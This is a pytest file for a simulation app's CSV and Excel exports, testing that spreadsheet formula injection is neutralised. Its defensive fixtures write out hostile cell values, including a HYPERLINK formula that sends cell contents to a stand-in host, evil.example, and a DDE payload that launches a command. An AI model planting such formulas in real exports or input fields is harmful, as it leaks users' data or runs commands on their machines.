"""No export puts a live formula into a spreadsheet (CSV injection, OWASP).

Names, ids and segments come from share links, the shared library and uploaded files. Every file
the app and the command line write is built here with hostile text in each of them, read back,
and checked cell by cell: no text cell may begin with = + - @, a tab or a carriage return (or
their full-width forms), and no xlsx cell may be a formula. Numbers must stay numbers.
"""

from __future__ import annotations

import ast
import csv
import io
import re
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from simulation import scenario_from_dict
from simulation.decide import optimize_split
from simulation.io.cells import FORMULA_TRIGGERS, csv_text, safe_text_cell, to_csv
from simulation.io.classroom import ClassroomStore
from simulation.io.presets import load_preset
from simulation.portfolio.analysis import analyse
from tests.portfolio.helpers import SAMPLES, read_text
from ui.compare import exports as compare_exports
from ui.optimise import exports as optimise_exports
from ui.plan import exports as plan_exports
from ui.shared import cache

ROOT = Path(__file__).resolve().parents[2]
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HOSTILE_SEGMENTS = ("=1+1", "@evil", "+1+1", "－2＋3")
HOSTILE_IDS = ("=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "@SUM(A1:A2)")
NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?|[+-]?inf|nan")


def hostile_scenario(name: str = HOSTILE_NAME, runs: int = 60):
    data = load_preset().to_dict()
    data["name"] = name
    for segment, hostile in zip(data["segments"], HOSTILE_SEGMENTS, strict=False):
        segment["name"] = hostile
    data["simulation"] = {"runs": runs, "seed": 3}
    return scenario_from_dict(data)


def live_csv_cells(text: str) -> list[str]:
    """Every field of a CSV that a spreadsheet would read as a formula (numbers excepted)."""
    return [
        cell
        for row in csv.reader(io.StringIO(text))
        for cell in row
        if cell[:1] in FORMULA_TRIGGERS and not NUMBER.fullmatch(cell)
    ]


def live_xlsx_cells(data: bytes) -> list[str]:
    """Every cell of a workbook that is a formula or text a spreadsheet would run."""
    book = load_workbook(io.BytesIO(data))
    return [
        f"{ws.title}!{cell.coordinate}: {cell.value!r}"
        for ws in book.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value[:1] in FORMULA_TRIGGERS)
    ]


def xlsx_texts(data: bytes) -> set[str]:
    book = load_workbook(io.BytesIO(data))
    return {c.value for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}


def csv_texts(text: str) -> set[str]:
    return {cell for row in csv.reader(io.StringIO(text)) for cell in row}


def quoted(text: str) -> str:
    return "'" + text


@pytest.fixture(scope="module")
def scenario():
    return hostile_scenario()


@pytest.fixture(scope="module")
def plan_files(scenario):
    files = plan_exports.plan_files(scenario)
    return {"xlsx": files["xlsx"](), "csv": files["csv"]()}


def test_the_plan_workbook_and_per_run_csv_hold_no_formula(plan_files):
    assert not live_xlsx_cells(plan_files["xlsx"]), f"live cells: {live_xlsx_cells(plan_files['xlsx'])[:5]}"
    assert not live_csv_cells(plan_files["csv"]), f"live fields: {live_csv_cells(plan_files['csv'])[:5]}"
    texts = xlsx_texts(plan_files["xlsx"])
    assert quoted(HOSTILE_NAME) in texts, "the scenario's name is kept, as text"
    assert {quoted(s) for s in HOSTILE_SEGMENTS} <= texts, "each segment's name is kept, as text"


def test_numbers_stay_numbers_in_the_workbook(plan_files):
    book = load_workbook(io.BytesIO(plan_files["xlsx"]))
    pnl = book["P&L by year"]
    average = [c.value for c in pnl[1]].index("Average") + 1
    revenue = pnl.cell(2, average)
    assert revenue.data_type == "n" and isinstance(revenue.value, float), f"year 1 average: {revenue.value!r}"
    rows = {r[0].value: r[1] for r in book["Assumptions"].iter_rows(min_row=2)}
    horizon = rows["horizon"]
    assert horizon.data_type == "n" and horizon.value == 60, f"horizon cell: {horizon.value!r} ({horizon.data_type})"
    runs = pd.read_csv(io.StringIO(plan_files["csv"]))
    assert pd.api.types.is_float_dtype(runs["npv"]), f"the per-run NPV must read back as numbers: {runs['npv'].dtype}"


def test_the_compare_workbook_and_per_run_csv_hold_no_formula(scenario):
    other = scenario.with_budget(scenario.budget.with_split(scenario.budget.total, 0.5)).replace(name="+1+1")
    files = compare_exports.compare_files({HOSTILE_NAME: scenario, "@SUM(A1:A2)": other}, runs=40, seed=3)
    book, per_run = files["xlsx"](), files["csv"]()
    assert not live_xlsx_cells(book), f"live cells: {live_xlsx_cells(book)[:5]}"
    assert not live_csv_cells(per_run), f"live fields: {live_csv_cells(per_run)[:5]}"
    assert quoted(HOSTILE_NAME) in csv_texts(per_run), "the scenario column keeps the name, as text"
    assert quoted(HOSTILE_NAME) + ": median" in xlsx_texts(book), "the comparison's header keeps the name"


def test_the_optimise_workbook_and_per_run_csv_hold_no_formula(scenario):
    split = optimize_split(scenario, "npv", None, 5, 40, 3)
    files = optimise_exports.optimise_files(scenario, split)
    book, per_run = files["xlsx"](), files["csv"]()
    assert not live_xlsx_cells(book), f"live cells: {live_xlsx_cells(book)[:5]}"
    assert not live_csv_cells(per_run), f"live fields: {live_csv_cells(per_run)[:5]}"


def test_the_projections_csv_holds_no_formula(scenario):
    text = cache.csv_for(scenario)()
    assert not live_csv_cells(text), f"live fields: {live_csv_cells(text)[:5]}"
    assert text.splitlines()[0] == "period,metric,mean,p5,p25,p50,p75,p95", "the command line's header is kept"


def test_the_portfolio_csvs_hold_no_formula():
    raw = (SAMPLES / "b2b_accounts.csv").read_text(encoding="utf-8")
    table = pd.read_csv(io.StringIO(raw), dtype=str, keep_default_na=False)
    id_column = next(c for c in table.columns if "id" in c.lower())
    segment_column = next(c for c in table.columns if "segment" in c.lower())
    for i, hostile in enumerate(HOSTILE_IDS):
        table.loc[i, id_column] = hostile
    table.loc[: len(table) // 2, segment_column] = "@evil"
    _, data = read_text(table.to_csv(index=False))
    analysis = analyse(data)
    classified, key_accounts = to_csv(analysis.export_frame()), to_csv(analysis.key_accounts)
    for name, text in (("classified customers", classified), ("key-account plans", key_accounts)):
        assert not live_csv_cells(text), f"{name}: live fields {live_csv_cells(text)[:5]}"
    texts = csv_texts(classified)
    assert {quoted(i) for i in HOSTILE_IDS} <= texts, "every customer id is kept, as text"
    assert quoted("@evil") in texts, "the segment is kept, as text"


def test_the_class_export_holds_no_formula(tmp_path):
    store = ClassroomStore(tmp_path)
    started = store.start("=1+1 class")
    store.set_unlocked(started.code, started.secret, "leaky_bucket", True)
    names = ("=1+1", "@SUM(A1:A2)", "-2+3", "+1", "\uff1dcmd")
    for name in names:
        learner = store.join(started.code, name)
        store.record(started.code, learner, "leaky_bucket", "prediction", -3.5)
    text = store.export_csv(started.code, started.secret)
    assert not live_csv_cells(text), f"live fields: {live_csv_cells(text)[:5]}"
    assert {quoted(n) for n in names} <= csv_texts(text), "every learner's name is kept, as text"
    assert "-3.5" in csv_texts(text), "a negative answer stays a number"


def test_the_command_lines_csvs_hold_no_formula(tmp_path, capsys):
    from simulation.cli import main

    path = tmp_path / "hostile.toml"
    path.write_text(hostile_scenario(runs=20).to_toml(), encoding="utf-8")
    outputs = {}
    for command, args in {
        "run": ["run", str(path), "--format", "csv", "--per-run", str(tmp_path / "per-run.csv")],
        "optimize": ["optimize", str(path), "--format", "csv", "--grid", "3", "--runs", "20"],
        "sweep": ["sweep", str(path), "--out", str(tmp_path / "sweep.csv"), "--grid", "3", "--runs", "20", "--quiet"],
    }.items():
        assert main(args) == 0, f"{command} failed: {capsys.readouterr().err}"
        outputs[command] = capsys.readouterr().out
    outputs["per-run"] = (tmp_path / "per-run.csv").read_text(encoding="utf-8")
    outputs["sweep"] = (tmp_path / "sweep.csv").read_text(encoding="utf-8")
    for command, text in outputs.items():
        assert text.strip(), f"{command} wrote nothing"
        assert not live_csv_cells(text), f"{command}: live fields {live_csv_cells(text)[:5]}"
    assert quoted(HOSTILE_NAME) in csv_texts(outputs["sweep"]), "the sweep keeps the scenario's name, as text"


def test_the_fit_command_csv_holds_no_formula(tmp_path, capsys):
    from simulation.cli import main

    raw = (SAMPLES / "b2b_accounts.csv").read_text(encoding="utf-8")
    table = pd.read_csv(io.StringIO(raw), dtype=str, keep_default_na=False)
    segment_column = next(c for c in table.columns if "segment" in c.lower())
    table[segment_column] = ["=1+1" if i % 2 else "@evil" for i in range(len(table))]
    path = tmp_path / "customers.csv"
    table.to_csv(path, index=False)
    assert main(["fit", str(path), "--format", "csv"]) == 0, f"fit failed: {capsys.readouterr().err}"
    text = capsys.readouterr().out
    assert not live_csv_cells(text), f"live fields: {live_csv_cells(text)[:5]}"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("\uff1d1", "'\uff1d1"),
        ("\uff0b1", "'\uff0b1"),
        ("\uff0d1", "'\uff0d1"),
        ("\uff201", "'\uff201"),
        ("plain", "plain"),
        ("", ""),
    ],
)
def test_a_text_cell_that_would_start_a_formula_is_quoted(text, expected):
    assert safe_text_cell(text) == expected, f"{text!r} should become {expected!r}"


@pytest.mark.parametrize("number", [-1.5, -3, 0, 2.25, True])
def test_numbers_are_left_alone(number):
    assert safe_text_cell(number) is number, f"{number!r} must stay a number"


def test_csv_fields_holding_a_separator_are_quoted():
    text = csv_text([["x;=1+1", "a,b", 'say "hi"', -2.5, None]], header=["name", "n", "q", "v", "e"])
    assert text.splitlines()[1] == '"x;=1+1","a,b","say ""hi""",-2.5,', f"row: {text.splitlines()[1]}"


def test_every_csv_and_workbook_is_written_through_the_one_writer():
    """No export writes CSV or xlsx cells by itself: ``.to_csv(`` and ``csv.writer`` appear only in
    simulation/io/cells.py (and the benchmark's synthetic input file, which is not an export)."""
    allowed = {Path("simulation/io/cells.py"), Path("simulation/portfolio/bench.py")}
    found = []
    for folder in ("simulation", "ui", "pages", "app.py"):
        for path in sorted((ROOT / folder).rglob("*.py")) if (ROOT / folder).is_dir() else [ROOT / folder]:
            rel = path.relative_to(ROOT)
            if rel in allowed:
                continue
            for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
                if isinstance(node, ast.Attribute) and node.attr in {"to_csv", "writer", "DictWriter", "to_excel"}:
                    found.append(f"{rel}:{node.lineno}: .{node.attr}")
    assert not found, f"CSV or spreadsheet cells written outside simulation/io/cells.py: {found}"


def test_programme_names_reach_the_per_run_csv_as_text():
    data = hostile_scenario(runs=20).to_dict()
    data["programmes"] = [
        {"name": name, "churn_multiplier": {"low": 0.8, "high": 0.95}, "revenue_multiplier": 1.01}
        for name in (HOSTILE_NAME, "@SUM(A1:A2)")
    ]
    data["price_change"] = {"change": 0.05, "churn_elasticity": {"low": 0.5, "high": 1.5}}
    per_run = plan_exports.plan_files(scenario_from_dict(data))["csv"]()
    assert not live_csv_cells(per_run), f"live fields: {live_csv_cells(per_run)[:5]}"
    header = next(csv.reader(io.StringIO(per_run)))
    for name in (HOSTILE_NAME, "@SUM(A1:A2)"):
        for field in ("churn_multiplier", "revenue_multiplier"):
            assert f"programmes.{name}.{field}" in header, f"the column keeps the programme's name: {name}"
    assert "price_change.churn_elasticity" in header, "the drawn elasticity has its column"
    runs = pd.read_csv(io.StringIO(per_run))
    column = runs[f"programmes.{HOSTILE_NAME}.churn_multiplier"]
    assert pd.api.types.is_float_dtype(column) and column.between(0.8, 0.95).all(), "the draws stay numbers"
